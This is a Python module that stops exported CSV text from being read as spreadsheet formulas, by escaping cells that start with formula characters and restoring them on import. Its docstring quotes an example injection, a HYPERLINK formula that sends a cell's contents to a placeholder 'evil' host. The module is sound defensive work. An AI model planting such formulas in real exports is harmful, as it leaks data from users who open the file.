"""Keeping exported text from becoming a live formula in Excel, LibreOffice or Numbers.

A caller name such as ``=HYPERLINK("http://evil/?"&A1,"Click")`` or a contract number starting
with ``+``, ``-`` or ``@`` is evaluated as a formula when a spreadsheet program opens the export.
Following the OWASP CSV-injection guidance (https://owasp.org/www-community/attacks/CSV_Injection)
every text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written
with a leading apostrophe, which spreadsheet programs read as "this is text". The CSV writer
quotes fields that hold separators or quotes, as the guidance asks. The importer takes the
apostrophe off again (:func:`restore`), so an exported file imports unchanged.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"


def neutralise(value: Any) -> Any:
    """``value`` with an apostrophe in front when it is text that would start a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return TEXT_MARK + value
    return value


def neutralise_row(values: list[Any]) -> list[Any]:
    """Every cell of a row through :func:`neutralise`."""
    return [neutralise(value) for value in values]


def restore(text: str) -> str:
    """Undo :func:`neutralise` on a cell read back from a file (an import of an export)."""
    if text.startswith(TEXT_MARK) and text[1:2] and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text
